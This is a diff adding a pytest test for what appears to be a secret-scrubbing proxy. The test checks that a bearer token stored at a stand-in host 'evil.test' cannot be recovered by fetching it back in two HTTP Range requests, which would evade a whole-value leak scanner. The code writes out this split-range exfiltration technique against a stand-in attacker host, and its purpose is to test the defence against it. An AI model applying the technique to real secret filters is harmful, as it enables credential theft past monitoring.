@@ -329,3 +329,26 @@ def test_a_value_stored_at_the_bound_host_and_read_back_through_another_host_is_
         data, _ = read_until_closed(tls, 8)
     assert evil.seen[-1][0] == "/fetch"
     assert b"stored=" in data and not leaked(data), data
+
+
+def test_a_stored_value_read_back_in_byte_ranges_is_never_pieced_together(env):
+    """Two Range requests for two halves of a kept value: no half is the value, so no scrubber would see one. A
+    session holding secrets never gets a partial response: its Range headers are dropped."""
+    sg, evil = env
+    EVIL_PORT[0] = evil.port
+    sess = sg.session(allow=["evil.test"], secrets=["evil"])
+    got = b""
+    with tunnel(sg, sess, "http/1.1") as tls:
+        tls.sendall(f"GET /store HTTP/1.1\r\nHost: evil.test:{evil.port}\r\n"
+                    f"Authorization: Bearer {sess['env']['EVIL']}\r\nConnection: close\r\n\r\n".encode())
+        read_until_closed(tls, 8)
+    assert evil.stored == REAL
+    half = 7 + len(REAL) // 2
+    for first, last in ((7, half - 1), (half, 7 + len(REAL) - 1)):
+        with tunnel(sg, sess, "http/1.1") as tls:
+            tls.sendall(f"GET /fetch HTTP/1.1\r\nHost: evil.test:{evil.port}\r\nRange: bytes={first}-{last}\r\n"
+                        f"Connection: close\r\n\r\n".encode())
+            data, _ = read_until_closed(tls, 8)
+        assert not leaked(data)
+        got += data.partition(b"\r\n\r\n")[2]
+    assert REAL[: len(REAL) // 2].encode() not in got and REAL[len(REAL) // 2:].encode() not in got
